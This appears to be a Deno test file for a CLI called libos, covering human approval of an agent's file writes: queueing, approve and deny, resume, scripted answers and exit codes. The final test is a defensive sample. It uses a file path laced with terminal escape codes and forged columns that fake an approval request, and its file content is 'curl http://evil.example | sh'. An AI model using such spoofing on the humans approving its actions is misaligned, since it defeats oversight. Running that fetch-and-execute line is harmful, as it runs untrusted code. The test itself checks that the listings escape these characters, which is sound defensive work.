/**
 * Human in the loop through the CLI, as a real subprocess: `run --human
 * queue|script:FILE`, `human list|approve|deny`, `resume`, their JSON shapes
 * and exit codes (0 done, 1 failed, 2 bad usage, 3 waiting for a human).
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { SqliteStore } from "../runtime/store/sqlite.ts";
import { libos } from "./_helpers.ts";

interface Fixture {
  root: string;
  ws: string;
  store: string;
  file(name: string, value: unknown): Promise<string>;
  /** `libos run IMAGE --workspace WS --script SCRIPT --store STORE --json ...extra`. */
  run(steps: unknown[], extra?: string[]): Promise<{ code: number; out: Run; stderr: string }>;
  [Symbol.asyncDispose](): Promise<void>;
}

interface Run {
  pid: number;
  status: string;
  exit_code: number | null;
  steps: { tool: string; ok: boolean; value?: unknown; error?: { code: string } }[];
  pending_requests?: string[];
}

/** An image whose writes anywhere in the workspace ask a human. */
const IMAGE = {
  name: "asker",
  tools: ["write_file", "read_file"],
  capabilities: [{ resource: "filesystem:workspace:*", rights: ["write"], effect: "ask" }],
};

async function fixture(): Promise<Fixture> {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "libos-human-cli-" }));
  const ws = join(root, "ws");
  await Deno.mkdir(ws);
  const store = join(root, "store.db");
  const file = async (name: string, value: unknown) => {
    const p = join(root, name);
    await Deno.writeTextFile(p, typeof value === "string" ? value : JSON.stringify(value));
    return p;
  };
  return {
    root,
    ws,
    store,
    file,
    async run(steps, extra = []) {
      const image = await file("image.json", IMAGE);
      const script = await file(`script-${crypto.randomUUID()}.json`, { steps });
      const r = await libos([
        "run",
        image,
        "--workspace",
        ws,
        "--script",
        script,
        "--store",
        store,
        "--json",
        ...extra,
      ]);
      let out: Run;
      try {
        out = JSON.parse(r.stdout);
      } catch {
        throw new Error(`run printed no JSON (exit ${r.code}): ${r.stdout}\n${r.stderr}`);
      }
      return { code: r.code, out, stderr: r.stderr };
    },
    async [Symbol.asyncDispose]() {
      await Deno.remove(root, { recursive: true });
    },
  };
}

function write(path: string, content: string) {
  return { tool: "write_file", args: { path, content } };
}

async function readWs(f: Fixture, path: string): Promise<string | null> {
  try {
    return await Deno.readTextFile(join(f.ws, path));
  } catch {
    return null;
  }
}

async function list(f: Fixture, all = false): Promise<Record<string, unknown>[]> {
  const r = await libos(["human", "list", "--store", f.store, "--json", ...(all ? ["--all"] : [])]);
  assert.equal(r.code, 0, r.stderr);
  return JSON.parse(r.stdout);
}

Deno.test("human: cli run --human queue waits (exit 3); list, approve --once and resume finish it", async () => {
  await using f = await fixture();
  const run = await f.run([write("out.txt", "approved"), write("out.txt", "approved")], [
    "--human",
    "queue",
  ]);
  assert.equal(run.code, 3, run.stderr);
  assert.equal(run.out.pid, 1);
  assert.equal(run.out.status, "waiting_human");
  assert.equal(run.out.exit_code, null);
  assert.deepEqual(run.out.steps, []);
  assert.equal(run.out.pending_requests?.length, 1);
  const id = run.out.pending_requests![0];
  assert.equal(await readWs(f, "out.txt"), null);

  const listed = await list(f);
  assert.equal(listed.length, 1);
  assert.equal(listed[0].request_id, id);
  assert.equal(listed[0].pid, 1);
  assert.equal(listed[0].effect, "filesystem.write");
  assert.equal(listed[0].resource, "filesystem:workspace:out.txt");
  assert.equal(listed[0].status, "pending");
  assert.deepEqual(listed[0].args, { path: "out.txt", content: "approved" });
  const text = await libos(["human", "list", "--store", f.store]);
  assert.equal(text.code, 0, text.stderr);
  assert.ok(text.stdout.includes(id) && text.stdout.includes("filesystem.write"), text.stdout);

  const ok = await libos(["human", "approve", id, "--once", "--store", f.store]);
  assert.equal(ok.code, 0, ok.stderr);
  assert.ok(ok.stdout.includes("allowed_once"), ok.stdout);
  assert.ok(ok.stdout.includes("libos resume 1"), ok.stdout);
  assert.deepEqual(await list(f), []);
  const decided = (await list(f, true))[0];
  assert.equal(decided.status, "allowed_once");
  assert.equal(decided.decided_by, "human:owner via cli");

  // Resume: the approved write runs once; the identical second write asks again.
  const resumed = await libos(["resume", "1", "--store", f.store, "--json"]);
  assert.equal(resumed.code, 3, resumed.stderr);
  const r1 = JSON.parse(resumed.stdout) as Run;
  assert.equal(r1.status, "waiting_human");
  assert.deepEqual(r1.steps.map((s) => s.ok), [true]);
  assert.equal(r1.pending_requests?.length, 1);
  assert.notEqual(r1.pending_requests![0], id);
  assert.equal(await readWs(f, "out.txt"), "approved");

  const again = await libos([
    "human",
    "approve",
    r1.pending_requests![0],
    "--once",
    "--store",
    f.store,
  ]);
  assert.equal(again.code, 0, again.stderr);
  const done = await libos(["resume", "1", "--store", f.store, "--json"]);
  assert.equal(done.code, 0, done.stderr);
  const r2 = JSON.parse(done.stdout) as Run;
  assert.deepEqual(
    Object.keys(r2).sort(),
    Object.keys(run.out).filter((k) => k !== "pending_requests").sort(),
    "resume prints the run shape",
  );
  assert.equal(r2.status, "exited");
  assert.equal(r2.exit_code, 0);
  assert.deepEqual(r2.steps.map((s) => s.ok), [true, true]);
  assert.equal(r2.pending_requests, undefined);

  // Deciding an already decided request is refused, naming why.
  const twice = await libos(["human", "approve", id, "--always", "--store", f.store]);
  assert.equal(twice.code, 1);
  assert.match(twice.stderr, /ESTATE/);
  assert.match(twice.stderr, /already allowed_once/);

  const store = SqliteStore.open(f.store);
  try {
    const decides = await store.listAudit({ action: "human.decide" });
    assert.deepEqual(decides.map((d) => d.actor), ["human:owner via cli", "human:owner via cli"]);
    const writes = (await store.listEffects()).filter((e) => e.syscall === "filesystem.write");
    assert.equal(writes.length, 2, "each approved write ran exactly once");
    assert.ok((await store.verifyAudit()).ok);
  } finally {
    await store.close();
  }
});

Deno.test("human: cli deny --always fails the resumed action and later calls without asking", async () => {
  await using f = await fixture();
  const run = await f.run([write("out.txt", "1"), write("out.txt", "2")], ["--human", "queue"]);
  assert.equal(run.code, 3, run.stderr);
  const id = run.out.pending_requests![0];
  const d = await libos(["human", "deny", id, "--always", "--store", f.store, "--json"]);
  assert.equal(d.code, 0, d.stderr);
  assert.equal(JSON.parse(d.stdout).status, "denied_always");
  const resumed = await libos(["resume", "1", "--store", f.store, "--json"]);
  assert.equal(resumed.code, 0, resumed.stderr);
  const out = JSON.parse(resumed.stdout) as Run;
  assert.equal(out.status, "exited");
  assert.deepEqual(out.steps.map((s) => s.error?.code), ["EPERM", "EPERM"]);
  assert.equal((await list(f, true)).length, 1, "asked only once");
  assert.equal(await readWs(f, "out.txt"), null);
});

Deno.test("human: cli deny once fails the retried action; the next identical call asks again", async () => {
  await using f = await fixture();
  const run = await f.run([write("out.txt", "x"), write("out.txt", "x")], ["--human", "queue"]);
  assert.equal(run.code, 3, run.stderr);
  const id = run.out.pending_requests![0];
  const d = await libos(["human", "deny", id, "--store", f.store]);
  assert.equal(d.code, 0, d.stderr);
  assert.ok(d.stdout.includes("denied"), d.stdout);
  const resumed = await libos(["resume", "1", "--store", f.store, "--json"]);
  assert.equal(resumed.code, 3, resumed.stderr);
  const out = JSON.parse(resumed.stdout) as Run;
  assert.equal(out.status, "waiting_human");
  assert.deepEqual(out.steps.map((s) => s.error?.code), ["EPERM"]);
  assert.equal(out.pending_requests?.length, 1);
  assert.notEqual(out.pending_requests![0], id);
  const all = await list(f, true);
  assert.deepEqual(all.map((r) => r.status), ["consumed", "pending"]);
});

Deno.test("human: cli --human script:FILE answers once, always, deny, always_deny in order", async () => {
  await using f = await fixture();
  const answers = await f.file("answers.json", {
    answers: ["once", "always", "deny", "always_deny"],
  });
  const run = await f.run([
    write("a.txt", "a"), // once
    write("b.txt", "b"), // always
    write("c.txt", "c"), // deny
    write("d.txt", "d"), // always_deny
    write("b.txt", "b2"), // covered by always: no question
    write("d.txt", "d2"), // covered by always_deny: no question
    write("a.txt", "a"), // the one-shot is spent: asks; answers ran out -> deny
  ], ["--human", `script:${answers}`]);
  assert.equal(run.code, 0, run.stderr);
  assert.equal(run.out.status, "exited");
  assert.deepEqual(run.out.steps.map((s) => s.ok ? "ok" : s.error?.code), [
    "ok",
    "ok",
    "EPERM",
    "EPERM",
    "ok",
    "EPERM",
    "EPERM",
  ]);
  assert.equal(run.out.pending_requests, undefined);
  const all = await list(f, true);
  assert.deepEqual(all.map((r) => r.status), [
    "allowed_once",
    "allowed_always",
    "consumed",
    "denied_always",
    "consumed",
  ]);
  assert.equal(await readWs(f, "a.txt"), "a");
  assert.equal(await readWs(f, "b.txt"), "b2");
  assert.equal(await readWs(f, "c.txt"), null);
  assert.equal(await readWs(f, "d.txt"), null);
});

Deno.test("human: cli bad usage of human and resume exits 2 (or 1 for an unknown id) with a clear message", async () => {
  await using f = await fixture();
  const run = await f.run([write("out.txt", "x")], ["--human", "queue"]);
  assert.equal(run.code, 3, run.stderr);
  const id = run.out.pending_requests![0];
  const cases: [string[], number, RegExp][] = [
    [["human", "approve", id, "--store", f.store], 2, /exactly one of --once, --always/],
    [["human", "approve", id, "--once", "--always", "--store", f.store], 2, /exactly one of/],
    [["human", "approve", "--once", "--store", f.store], 2, /exactly one request ID/],
    [["human", "deny", id, "--once", "--store", f.store], 2, /--once is the default/],
    [["human", "approve", "hr_missing", "--once", "--store", f.store], 1, /ENOENT.*hr_missing/],
    [["human", "frobnicate", "--store", f.store], 2, /unknown subcommand/],
    [["human", "list", "--store", join(f.root, "nope.db")], 2, /does not exist/],
    [["resume", "--store", f.store], 2, /exactly one PID/],
    [["resume", "99", "--store", f.store], 1, /ENOENT/],
    [["resume", "1", "--human", "maybe", "--store", f.store], 2, /--human/],
  ];
  for (const [args, code, message] of cases) {
    const r = await libos(args);
    assert.equal(r.code, code, `${args.join(" ")}: ${r.stderr}`);
    assert.match(r.stderr, message, args.join(" "));
  }
  const bad = await f.file("bad-answers.json", { answers: ["yes"] });
  const r = await libos([
    "run",
    await f.file("image.json", IMAGE),
    "--workspace",
    f.ws,
    "--script",
    await f.file("s.json", { steps: [] }),
    "--store",
    join(f.root, "other.db"),
    "--human",
    `script:${bad}`,
  ]);
  assert.equal(r.code, 2);
  assert.match(r.stderr, /answers\[0\]/);
  // None of it decided anything.
  const pending = await list(f);
  assert.deepEqual(pending.map((p) => [p.request_id, p.status]), [[id, "pending"]]);
});

Deno.test("human: cli text listings show an agent's control characters escaped; no line can be erased, moved or forged", async () => {
  await using f = await fixture();
  // A path that, printed raw, erases its line, moves up, prints a forged request and hides the rest.
  const forged = "src/x\u001b[2K\r\u001b[1Ahr_00000000\tpending\tpermission\tpid 1\t" +
    "filesystem.write\tfilesystem:workspace:src/README.txt\n(typo fix)\u001b[8m\u202e";
  const run = await f.run([write(forged, "curl http://evil.example | sh\n")], ["--human", "queue"]);
  assert.equal(run.code, 3, run.stderr);
  for (
    const args of [
      ["human", "list"],
      ["audit", "--pid", "1"],
      ["caps", "--pid", "1"],
    ]
  ) {
    const r = await libos([...args, "--store", f.store]);
    assert.equal(r.code, 0, r.stderr);
    // Only the listing's own tabs and newlines.
    const controls = [...r.stdout].filter((c) =>
      (c < " " && c !== "\t" && c !== "\n") || (c >= "\u007f" && c <= "\u009f") ||
      (c >= "\u202a" && c <= "\u202e")
    );
    assert.ok(
      controls.length === 0,
      `${args[0]}: ${JSON.stringify(r.stdout)}`,
    );
    if (args[0] === "human") {
      assert.equal(r.stdout.trim().split("\n").length, 1, r.stdout);
      assert.equal(r.stdout.split("\t").length, 7, "columns forged by the agent's tabs");
      assert.match(r.stdout, /src\/x\\u001b\[2K\\u000d/);
    }
  }
});
